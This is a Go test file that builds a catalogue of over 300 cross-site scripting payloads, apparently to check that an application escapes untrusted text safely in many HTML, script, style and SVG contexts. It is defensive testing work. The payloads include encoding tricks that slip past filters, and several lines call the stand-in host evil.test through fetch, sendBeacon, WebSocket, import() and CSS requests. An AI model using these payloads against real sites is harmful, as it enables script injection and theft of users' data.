// Package hostile_test is what strangers may write: a whole office whose every
// text is an attempt on the reader's browser, read, built and loaded in a real
// one. It holds no code of the program.
package hostile_test

import (
	"fmt"
	"strings"
	"testing"
)

// place is where in a page a payload would do harm if it were written there as
// it is. Each has a page without protection that proves the payload is live.
type place string

const (
	inText       place = "text"
	inAttribute  place = "double-quoted attribute"
	inSingle     place = "single-quoted attribute"
	inBare       place = "unquoted attribute"
	inAddress    place = "address of a link"
	inScript     place = "double-quoted string of a script"
	inScript1    place = "single-quoted string of a script"
	inTemplate   place = "template string of a script"
	inTitle      place = "title"
	inTextarea   place = "text area"
	inStyle      place = "style sheet"
	inComment    place = "comment"
	inSVG        place = "drawing"
	inJSON       place = "block of JSON"
	inFrame      place = "source of a frame"
	inHTMLByCode place = "HTML set by a script"
)

// payload is one attempt. NN in its text stands for its own number.
type payload struct {
	in   place
	text string
}

// elements fire by themselves in HTML that is parsed.
var elements = []string{
	`<script>hit(NN)</script>`,
	`<ScRiPt>hit(NN)</sCrIpT>`,
	`<script >hit(NN)</script >`,
	`<script/x>hit(NN)</script>`,
	`<script>hit(NN)//</script>`,
	`<script src=//evil.test/NN.js></script>`,
	`<img src=x: onerror=hit(NN)>`,
	`<img src=x: onerror="hit(NN)">`,
	`<IMG SRC=x: ONERROR=hit(NN)>`,
	`<img/src="x:"/onerror=hit(NN)>`,
	"<img src=x: onerror=hit`NN`>",
	`<img src=x: onerror=&#104;it(NN)>`,
	`<img src=x: onerror=&#x68;it(NN)>`,
	`<img src=x: onerror=\u0068it(NN)>`,
	`<img src=//evil.test/NN>`,
	`<img srcset="//evil.test/NN 1x">`,
	`<image src=x: onerror=hit(NN)>`,
	`<svg onload=hit(NN)>`,
	`<svg/onload=hit(NN)>`,
	`<svg><script>hit(NN)</script></svg>`,
	`<svg><script>&#104;it(NN)</script></svg>`,
	`<svg><image href=//evil.test/NN />`,
	`<svg><animate onbegin=hit(NN) attributeName=x dur=1s>`,
	`<svg><set onbegin=hit(NN) attributeName=x dur=1s>`,
	`<style onload=hit(NN)></style>`,
	`<style>@import '//evil.test/NN';</style>`,
	`<link rel=stylesheet href=//evil.test/NN>`,
	`<iframe src=javascript:hit(NN)></iframe>`,
	`<iframe src="java&#10;script:hit(NN)"></iframe>`,
	`<iframe src="&#1;javascript:hit(NN)"></iframe>`,
	`<iframe srcdoc="<script>top.hit(NN)</script>">`,
	`<iframe onload=hit(NN)></iframe>`,
	`<iframe src=//evil.test/NN></iframe>`,
	`<object data=//evil.test/NN></object>`,
	`<embed src=//evil.test/NN>`,
	`<details open ontoggle=hit(NN)>`,
	`<input autofocus onfocus=hit(NN)>`,
	`<select autofocus onfocus=hit(NN)></select>`,
	`<textarea autofocus onfocus=hit(NN)></textarea>`,
	`<a id=x tabindex=0 autofocus onfocus=hit(NN)>x</a>`,
	`<b tabindex=0 autofocus onfocus=hit(NN)>x</b>`,
	`<video src=x: onerror=hit(NN)></video>`,
	`<video><source onerror=hit(NN)></video>`,
	`<video poster=//evil.test/NN></video>`,
	`<audio src=x: onerror=hit(NN)></audio>`,
	`<audio src=//evil.test/NN></audio>`,
	`<input type=image src=//evil.test/NN>`,
	`<input type=image src=x: onerror=hit(NN)>`,
	`<p style="background:url(//evil.test/NN)">x</p>`,
	`<p style=animation:a onanimationstart=hit(NN)><style>@keyframes a{}`,
	`<meta http-equiv=refresh content="0;url=//evil.test/NN">`,
	`<table background=//evil.test/NN><tr><td>x`,
	`<math><mtext><img src=x: onerror=hit(NN)>`,
	`<noscript><p title="</noscript><img src=x: onerror=hit(NN)>">`,
	`<template><img></template><img src=x: onerror=hit(NN)>`,
	`<form><button autofocus onfocus=hit(NN)>x`,
}

// unparsed is what an element needs that is set by a script: nothing in script
// elements runs there.
func byCode(e string) bool {
	return strings.HasPrefix(e, "<img") || strings.HasPrefix(e, "<svg onload") || strings.HasPrefix(e, "<video") ||
		strings.HasPrefix(e, "<audio") || strings.HasPrefix(e, "<iframe s") || strings.HasPrefix(e, "<details")
}

// attributes fire inside a tag.
var attributes = []string{
	`autofocus onfocus=hit(NN) x=`,
	`onload=hit(NN) x=`,
	`onerror=hit(NN) src=x: x=`,
	`src=//evil.test/NN x=`,
}

// codes fire as the source of a script.
var codes = []string{
	`hit(NN)`, `top.hit(NN)`, `self['hit'](NN)`, `this.hit(NN)`, `globalThis.hit(NN)`, `(hit)(NN)`, "hit`NN`", `[NN].map(hit)`,
	`alert(NN)`, `confirm(NN)`, `prompt(NN)`, `eval('hit(NN)')`, `Function('hit(NN)')()`, `setTimeout('hit(NN)')`,
	`void(new Image().src='//evil.test/NN')`, `fetch('//evil.test/NN')`, `navigator.sendBeacon('//evil.test/NN')`,
	`import('//evil.test/NN')`, `new WebSocket('ws://evil.test/NN')`, `location='//evil.test/NN'`,
}

// payloads returns all attempts with their numbers filled in.
func payloads() []payload {
	var all []payload
	add := func(in place, text string) {
		all = append(all, payload{in, strings.ReplaceAll(text, "NN", fmt.Sprint(len(all)+1000))})
	}
	for _, e := range elements {
		add(inText, e)
		if byCode(e) {
			add(inHTMLByCode, e)
		}
	}
	for n, e := range elements {
		switch n % 3 {
		case 0:
			add(inAttribute, `">`+e)
			add(inTitle, `</title>`+e)
			add(inComment, `-->`+e)
		case 1:
			add(inSingle, `'>`+e)
			add(inTextarea, `</textarea>`+e)
			add(inJSON, `</script>`+e)
		case 2:
			add(inBare, `x>`+e)
			add(inStyle, `</style>`+e)
			add(inSVG, `</text></svg>`+e)
		}
	}
	for _, a := range attributes {
		add(inAttribute, `" `+a+`"`)
		add(inSingle, `' `+a+`'`)
		add(inBare, `x `+a)
	}
	for _, c := range codes {
		add(inAddress, `javascript:`+c)
		add(inScript, `";`+c+`//`)
		add(inScript1, `';`+c+`//`)
		add(inTemplate, `${`+c+`}`)
	}
	for _, a := range []string{"JaVaScRiPt:hit(NN)", " javascript:hit(NN)", "javascript&colon;hit(NN)", "java&Tab;script:hit(NN)",
		"javascript:%68it(NN)", "&#106;avascript:hit(NN)", "&#x6a;avascript:hit(NN)", "javascript://%0ahit(NN)"} {
		add(inAddress, a)
	}
	for _, f := range []string{`<script>parent.hit(NN)</script>`, `&lt;script>parent.hit(NN)&lt;/script>`, `<img src=//evil.test/NN>`} {
		add(inFrame, f)
	}
	for _, s := range []string{`}*{background:url(//evil.test/NN)}`, `@import '//evil.test/NN';`, `*{background:url('//evil.test/NN')}`} {
		add(inStyle, s)
	}
	return all
}

// atLeast is how many payloads the tests promise.
const atLeast = 300

func TestThereAreEnoughPayloads(t *testing.T) {
	seen := map[string]bool{}
	for _, p := range payloads() {
		seen[p.text] = true
		if len(p.text) > 80 {
			t.Errorf("%q is longer than some texts may be", p.text)
		}
	}
	if len(seen) < atLeast || len(seen) != len(payloads()) {
		t.Errorf("%d payloads, %d of them different; want %d", len(payloads()), len(seen), atLeast)
	}
}
